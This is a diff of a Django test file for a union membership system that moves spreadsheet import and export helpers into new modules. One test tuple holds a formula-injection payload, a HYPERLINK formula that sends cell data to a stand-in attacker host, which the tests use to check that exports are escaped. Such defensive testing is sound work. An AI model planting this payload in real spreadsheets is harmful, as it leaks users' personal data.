@@ -29,10 +29,12 @@ from openpyxl.utils import get_column_letter
 from stdnum.cn import ric
 from stdnum.cn import uscc as uscc_lib
 
-from members import spreadsheets, validators
-from members.actions import payroll
+from members import exports, spreadsheets, validators
+from members.actions import enrolment, payroll
 from members.actions import spreadsheets as imports
 from members.amounts import CENT, MAX_WAGE_BASE, compute_dues, parse_amount
+from members.cards import new_membership_numbers
+from members.importing import columns
 from members.models import DuesRecord, ImportJob, ImportStatus, Member, MembershipEvent
 from members.people import clean_person
 from organizations import counters
@@ -446,7 +448,7 @@ def test_clean_person_returns_storable_values_or_refuses_per_field(request, host
 
 # --- Spreadsheet files --------------------------------------------------------------------
 
-HEADERS = imports.HEADERS
+HEADERS = columns.HEADERS
 FORMULAS = (
     "=1+1",
     '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")',
@@ -951,12 +953,12 @@ def test_an_error_while_writing_leaves_no_member_and_no_counter_behind(
     sheet = SheetFile("会员.xlsx", xlsx_bytes(HEADERS, rows), data_row_numbers(rows), False)
     capture = django_capture_on_commit_callbacks
     targets = {
-        "bulk_enrol": (imports, "bulk_enrol"),
+        "bulk_enrol": (enrolment, "bulk_enrol"),
         "members": (Member.objects, "bulk_create"),
         "events": (MembershipEvent.objects, "bulk_create"),
-        "numbers": (imports, "new_membership_numbers"),
+        "numbers": (enrolment, "new_membership_numbers"),
         "counters": (counters, "adjust"),
-        "audit": (imports, "record_audit"),
+        "audit": (enrolment, "record_audit"),
     }
     calls = Counter()
     with rolled_back():
@@ -1260,7 +1262,7 @@ def test_export_escapes_every_formula_and_survives_any_stored_text(request, peop
     """Text stored before the checks (legacy data, other paths) is exported safely."""
     ran(request)
     with rolled_back():
-        numbers = imports.new_membership_numbers(len(people))
+        numbers = new_membership_numbers(len(people))
         for number, (name, employer, job) in zip(numbers, people, strict=True):
             member = Member(
                 organization=tree.union_a,
@@ -1275,7 +1277,7 @@ def test_export_escapes_every_formula_and_survives_any_stored_text(request, peop
             member.save()
         members = Member.objects.filter(organization=tree.union_a)
         for fmt in ("xlsx", "csv"):
-            content = imports.export_members(
+            content = exports.export_members(
                 queryset=members, acting_user=officers.a_admin, fmt=fmt
             )
             assert_no_formula_cells(content, fmt)
@@ -1525,7 +1527,7 @@ def test_a_credit_code_typed_full_width_is_stored_and_found_as_ascii(
     )
     assert union.uscc == code
     row = person_row("张三", make_id_number(region="110105"), "13800138000")
-    row[HEADERS.index(imports.UNION_HEADER)] = f" {code[:9]}\u3000{code[9:].translate(FULL_WIDTH)}"
+    row[HEADERS.index(columns.UNION_HEADER)] = f" {code[:9]}\u3000{code[9:].translate(FULL_WIDTH)}"
     grant_role(user=officers.a_admin, organization=union, role="admin")
     sheet = SheetFile("会员.xlsx", xlsx_bytes(HEADERS, [row]), [2], False)
     job = upload_members(sheet, officers.a_admin, tree.union_a, django_capture_on_commit_callbacks)
